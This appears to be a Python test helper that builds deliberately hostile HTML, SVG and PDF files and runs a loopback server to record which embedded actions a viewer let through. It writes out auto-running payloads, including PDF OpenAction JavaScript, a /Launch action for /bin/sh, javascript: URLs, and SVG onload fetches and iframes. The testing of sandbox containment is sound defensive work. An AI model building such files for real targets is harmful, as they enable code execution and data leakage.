"""Work orders that mean ill, and a server on loopback to which they report what they could do."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

from tests.e2e.floor import Pixel

SCRIPT = Path(__file__).with_name("hostile.js").read_text("utf-8")


class Sink:
    """Takes reports (`/say?name=…&value=…`); `taken` are all other requests: whom something was led or sent to."""

    def __init__(self) -> None:
        self.said: dict[str, str] = {}
        self.taken: list[str] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                parts = urlsplit(self.path)
                if parts.path == "/say":
                    told = dict(parse_qsl(parts.query, keep_blank_values=True))
                    sink.said[told["name"]] = told["value"]
                elif parts.path != "/favicon.ico":
                    sink.taken.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<h1>taken</h1>")

            do_POST = do_GET  # noqa: N815 - the base class's name

            def log_message(self, *_args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def forget(self) -> None:
        self.said, self.taken = {}, []

    def succeeded(self) -> dict[str, str]:
        """What it says it could do."""
        return {name: value for name, value in self.said.items() if value.startswith("did ")}


def script(appliance: str, sink: Sink) -> str:
    return f"const BASE = '{appliance}', SINK = '{sink.base}';\n{SCRIPT}"


def html(appliance: str, sink: Sink, colour: Pixel) -> bytes:
    background = "#" + bytes(colour).hex()
    refresh = f"<meta http-equiv='refresh' content='0;url=javascript:fetch(&quot;{sink.base}/refreshed&quot;)'>"
    head = f"<!doctype html><meta charset='utf-8'>{refresh}<body style='margin:0;background:{background}'>"
    return f"{head}<script>{script(appliance, sink)}</script>".encode()


def svg(appliance: str, sink: Sink, colour: Pixel) -> bytes:
    fill = "#" + bytes(colour).hex()
    code = script(appliance, sink).replace("&", "&amp;").replace("<", "&lt;")
    return (
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xhtml' viewBox='0 0 80 60' "
        f"onload='fetch(&quot;{sink.base}/onload&quot;)'><rect width='80' height='60' fill='{fill}'/>"
        f"<image href='{sink.base}/image'/><foreignObject width='1' height='1'><x:iframe src='{sink.base}/frame'/>"
        f"</foreignObject><script>{code}</script></svg>"
    ).encode()


def pdf(sink: Sink, colour: Pixel) -> bytes:
    """A PDF that would run a script, start a program and open an address when it is opened, seen or clicked."""
    red, green, blue = (f"{part / 255:.3f}" for part in colour)
    content = f"{red} {green} {blue} rg 0 0 842 595 re f".encode()
    js = f"<< /S /JavaScript /JS (app.launchURL\\('{sink.base}/js'\\); fetch\\('{sink.base}/js'\\)) >>"
    uri, launch = f"<< /S /URI /URI ({sink.base}/uri) >>", "<< /S /Launch /F (/bin/sh) >>"
    where = "/Rect [0 0 842 595]"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {js} /AA << /WC {js} >> "
        f"/Names << /JavaScript << /Names [(a) {js}] >> >> /URI << /Base ({sink.base}/) >> >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 595] /Contents 4 0 R /AA << /O {js} >> /Annots [ "
        f"<< /Type /Annot /Subtype /Link {where} /A {uri} >> << /Type /Annot /Subtype /Link {where} /A {launch} >> "
        f"<< /Type /Annot /Subtype /Link {where} /A << /S /URI /URI (javascript:alert\\(1\\)) >> >> "
        f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) {where} /AA << /PO {js} >> >> ] >>".encode(),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
